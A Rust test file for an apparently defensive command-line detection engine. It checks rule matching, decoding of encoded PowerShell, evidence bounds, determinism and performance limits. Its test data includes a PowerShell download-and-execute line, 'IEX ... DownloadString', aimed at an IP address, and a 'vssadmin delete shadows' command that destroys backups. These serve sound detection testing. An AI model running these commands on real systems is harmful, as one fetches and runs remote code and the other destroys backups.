//! Results, their bounds, and what they cost.

use super::*;
use crate::alert::VendorSeverity;
use crate::heuristics::{Band, band};
use proptest::prelude::*;

fn cmdline(text: &str) -> Observation<'_> {
    Observation { process_cmdline: Some(text), ..Observation::EMPTY }
}

#[test]
fn a_vendors_word_alone_is_never_high() {
    for severity in [VendorSeverity::Critical, VendorSeverity::High] {
        let assessment = Ruleset::built_in().evaluate(&Observation {
            vendor_severity: severity,
            tactic: Some("Credential Access"),
            technique: Some("T1003"),
            ..Observation::EMPTY
        });
        assert_eq!(band(assessment.confidence), Band::Ambiguous);
    }
}

#[test]
fn text_hidden_in_an_encoded_command_is_judged() {
    use base64::Engine as _;
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let command = format!("powershell -nop -w 1 -e {}", base64::prelude::BASE64_STANDARD.encode(bytes));
    let assessment = Ruleset::built_in().evaluate(&cmdline(&command));
    assert!(matches!(band(assessment.confidence), Band::Accept(_)), "{assessment:#?}");
    assert!(assessment.evidence.iter().any(|item| item.field == "decoded"), "{assessment:#?}");
}

#[test]
fn a_rule_of_another_platform_does_not_match() {
    let mut observation = cmdline("vssadmin delete shadows /all /quiet");
    assert!(!Ruleset::built_in().evaluate(&observation).evidence.is_empty());
    observation.platform = Some(crate::alert::Platform::Linux);
    assert_eq!(by_rules(&Ruleset::built_in().evaluate(&observation)), 0);
}

/// How many rules of the files are in the evidence; the learned resemblance is of no platform.
fn by_rules(assessment: &Assessment) -> usize {
    assessment.evidence.iter().filter(|item| item.rule_id != "learned-resemblance").count()
}

#[test]
fn a_rule_on_trial_is_recorded_and_does_not_count() {
    let observation = cmdline(r"D:\t.exe -decode D:\a.txt D:\a.dll");
    let assessment = Ruleset::built_in().evaluate(&observation);
    assert!(by_rules(&assessment) == 0 && assessment.techniques.is_empty());
    assert_eq!(assessment.staged.len(), 1);
}

#[test]
fn evidence_is_bounded_and_strongest_first() {
    let everything: String = Ruleset::built_in().table.literals.iter().collect::<Vec<_>>().join(" ");
    let assessment = Ruleset::built_in().evaluate(&cmdline(&everything));
    assert!(assessment.evidence.len() > 5);
    assert!(assessment.evidence.len() <= crate::heuristics::MAX_EVIDENCE);
    assert!(assessment.evidence.is_sorted_by(|a, b| a.weight >= b.weight));
    assert!(assessment.evidence.iter().all(|item| item.matched.chars().count() <= SHOWN));
}

#[test]
fn the_version_is_twelve_hexadecimal_digits() {
    let version = Ruleset::built_in().version();
    assert!(version.len() == 12 && version.bytes().all(|b| b.is_ascii_hexdigit()), "{version}");
}

proptest! {
    #[test]
    fn any_text_is_judged_and_judged_the_same_twice(text in ".{0,400}", parent in ".{0,80}", path in ".{0,80}") {
        let observation = Observation {
            process_path: Some(&path),
            process_cmdline: Some(&text),
            parent_process: Some(&parent),
            parent_cmdline: Some(&text),
            username: Some(&parent),
            tactic: Some(&parent),
            ..Observation::EMPTY
        };
        let first = Ruleset::built_in().evaluate(&observation);
        let again = Ruleset::built_in().evaluate(&observation);
        prop_assert_eq!(serde_json::to_vec(&first.evidence).unwrap(), serde_json::to_vec(&again.evidence).unwrap());
        prop_assert_eq!(first, again);
    }

    #[test]
    fn pieces_of_rules_in_any_order_are_judged(picks in proptest::collection::vec((any::<prop::sample::Index>(), ".{0,4}"), 0..12)) {
        let literals = Ruleset::built_in().table.literals;
        let text: String = picks.iter().map(|(pick, glue)| format!("{}{glue}", literals.get(pick.index(literals.len())).unwrap())).collect();
        let observation = cmdline(&text);
        let without = Ruleset::built_in().evaluate(&observation);
        let with = Ruleset::built_in().evaluate(&Observation { vendor_severity: VendorSeverity::Medium, ..observation });
        prop_assert!(with.confidence >= without.confidence);
    }
}

/// What an event costs, in units that no busy machine changes: steps of patterns and bytes of texts. Both bounds are
/// generous; where they are passed, `vyroxctl rules bench` says whether it matters.
#[test]
fn everyday_lines_cost_little() {
    let rules = Ruleset::load(TABLE, TEXTS, FINDER).unwrap();
    let mut bytes = 0;
    for line in crate::heuristics::rule_tests::BENIGN {
        let observation = cmdline(line);
        bytes += texts(&observation, PlatformSet::ALL).iter().map(|text| text.content.len()).sum::<usize>();
        let _ = rules.evaluate(&observation);
    }
    let memories = rules.memories.lock().unwrap();
    let [memory] = memories.as_slice() else { panic!("one evaluation at a time needs one memory") };
    let events = crate::heuristics::rule_tests::BENIGN.len();
    assert!(
        memory.search.machine.spent() <= 1_500 * events,
        "{} steps per event",
        memory.search.machine.spent() / events
    );
    assert!(bytes <= 800 * events, "{} bytes of text per event", bytes / events);
}

/// A table that is cut off, or of other rules' texts, is refused. What is inside is not read in advance: whatever it says,
/// what points elsewhere points to nothing.
#[test]
fn a_table_that_nobody_made_is_refused_or_finds_something_else() {
    assert!(Ruleset::load(&TABLE[..TABLE.len() - 16], TEXTS, FINDER).is_err());
    assert!(Ruleset::load(TABLE, &TEXTS[1..], FINDER).is_err());
    assert!(Ruleset::load(TABLE, TEXTS, &FINDER[..FINDER.len() - 16]).is_err());
    assert!(Ruleset::load(FINDER, TEXTS, TABLE).is_err());
    /// Where each section begins and how long the texts are, which is all that is read.
    const HEAD: usize = 8 + 16 * 8 + 16;
    for step in [0, 1, 7, 131] {
        let mut table = TABLE.to_vec();
        table[HEAD..].iter_mut().enumerate().for_each(|(at, byte)| *byte = (at * step % 251).to_le_bytes()[0] ^ 0xff);
        let rules = Ruleset::load(&table, TEXTS, FINDER).unwrap();
        for line in crate::heuristics::rule_tests::BENIGN {
            let _ = rules.evaluate(&cmdline(line));
        }
    }
}

#[test]
fn every_pattern_can_be_needed_and_few_are_kept() {
    let rules = Ruleset::load(TABLE, TEXTS, FINDER).unwrap();
    let much = rules.table.literals.iter().step_by(50).collect::<Vec<_>>().join(" ");
    assert!(rules.try_every_pattern(&much) < rules.table.patterns.len());
    assert!(rules.patterns.how_many() <= 64);
}

/// Nobody can make triage slow with one long command line: what is read again and again for each of its parts takes seconds
/// there, what is read a few times does not.
#[test]
fn no_command_line_takes_long() {
    const LENGTH: usize = 32 * 1024;
    /// Generous: a hundredth of it is usual, unoptimised.
    const MOST: std::time::Duration = std::time::Duration::from_secs(3);
    let repeated = |piece: &str| piece.repeat(LENGTH / piece.len());
    let half = |piece: &str| piece.repeat(LENGTH / 2 / piece.len());
    let mut lines: Vec<String> = [
        r"\\",
        "%{a,b}",
        "{",
        "%x=",
        "x=!x=",
        "${x=",
        "$x=",
        "$(x=",
        "set a=b&",
        "$[",
        r"a\..\",
        "'a'+",
        "^a",
        "`a",
        "\\x41",
        ",",
        "|,",
        "a,b,",
        "|a${b}c",
        "for %a in (x) do %a ",
    ]
    .map(repeated)
    .into();
    lines.extend(
        [("x=", "%"), ("x=", "$"), ("a", r"\..\"), ("c:/a", "/.."), ("QUFB", "'")]
            .map(|(one, other)| half(one) + &half(other)),
    );
    for line in lines {
        for platform in [crate::alert::Platform::Windows, crate::alert::Platform::Linux] {
            let observation = Observation { platform: Some(platform), ..cmdline(&line) };
            let started = std::time::Instant::now();
            let _ = Ruleset::built_in().evaluate(&observation);
            let took = started.elapsed();
            assert!(took < MOST, "{took:?}: {}", line.chars().take(40).collect::<String>());
        }
    }
}
